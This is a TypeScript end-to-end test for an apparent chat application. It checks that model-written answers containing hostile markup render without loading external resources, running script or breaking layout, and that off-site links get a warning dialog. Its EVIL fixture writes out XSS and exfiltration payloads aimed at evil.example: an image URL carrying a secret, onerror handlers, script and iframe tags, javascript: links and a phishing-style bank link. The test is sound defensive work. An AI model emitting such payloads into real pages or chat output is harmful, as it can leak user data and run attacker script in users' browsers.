import { randomUUID } from 'node:crypto';
import { findings } from './fixtures/axe.ts';
import { endBooking, readAnswer, startReadySession } from './fixtures/flows.ts';
import { until } from './fixtures/lab.ts';
import { expect, test } from './fixtures/test.ts';

const EVIL = [
  '![a](https://evil.example/leak.png?d=secret) <img src=https://evil.example/b onerror="document.title=1">',
  '<script>document.title = 1</script> <iframe src="https://evil.example"></iframe>',
  '[bank.example](https://evil.example/login) [run](javascript:document.title=1)',
  '<style>*{background:url(https://evil.example/c)}</style> <link rel=stylesheet href=https://evil.example/d>',
  '',
  'It costs $5 and $10, and $x^2 \\in \\mathbb{R}$.',
  '',
  '$$\\includegraphics{https://evil.example/e.png}\\href{javascript:alert(1)}{x}$$',
  '',
  '```python title="sum.py"',
  'print(1)',
  '```',
].join('\n');
const WORST = ['>'.repeat(2500), '**x_y*z__'.repeat(120), '[a](b'.repeat(120), '1.\t- '.repeat(20)];

test('what a model writes neither runs, loads nor leaks, and nothing of it makes a chat unreadable', async ({
  lab,
  owner,
  openAs,
}) => {
  const session = await startReadySession(owner, { simulated: true, size: 1 });
  const chat = await owner.chat.start.mutate({ id: randomUUID(), sessionId: session.sessionId });
  const ids = { conversationId: chat.id, generationId: randomUUID() };
  const text = `Repeat:\n${[...WORST, EVIL].join('\n\n')}`;
  await owner.chat.post.mutate({ ...ids, sessionId: session.sessionId, messageId: randomUUID(), text });
  await until(20_000, 'the answer', async () => (await readAnswer(owner, ids)).endedAt !== null);
  expect(await readAnswer(owner, ids)).toMatchObject({ state: 'completed', message: null });

  const page = await openAs('owner');
  const elsewhere: string[] = [];
  page.on('request', (it) => {
    const { protocol, origin } = new URL(it.url());
    if (!['data:', 'blob:'].includes(protocol) && origin !== lab.url) elsewhere.push(it.url());
  });
  await page.goto(`/chat/${chat.id}`);
  const answer = page.getByRole('article', { name: /^Answer/ });
  await expect(answer.locator('math')).toContainText('ℝ');
  await expect(answer).toContainText('It costs $5 and $10');
  await expect(answer.getByRole('link', { name: 'bank.example (evil.example)' })).toBeVisible();
  await expect(answer.getByRole('link', { name: '[image: a, not loaded] (evil.example)' })).toBeVisible();
  // What KaTeX will not typeset is shown as it was written.
  await expect(answer).toContainText('\\includegraphics{https://evil.example/e.png}');
  await expect(answer.locator('img, iframe, script, style, link, form, object, embed')).toHaveCount(0);
  await expect(page.getByText('could not be laid out')).toHaveCount(0);
  expect(await page.title()).not.toBe('1');

  expect(await findings(page)).toEqual([]);

  await answer.getByRole('link', { name: 'bank.example (evil.example)' }).press('Enter');
  const leaving = page.getByRole('dialog', { name: 'Leave the lab for evil.example?' });
  await expect(leaving).toContainText('https://evil.example/login');
  await expect(leaving.getByRole('link', { name: 'Open evil.example' })).toBeVisible();
  expect(await findings(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await expect(answer.getByRole('link', { name: 'bank.example (evil.example)' })).toBeFocused();

  const download = page.waitForEvent('download');
  await answer.getByRole('button', { name: 'Download sum.py' }).click();
  expect((await download).suggestedFilename()).toBe('sum.py');
  expect(elsewhere).toEqual([]);
  await endBooking(owner, session);
});
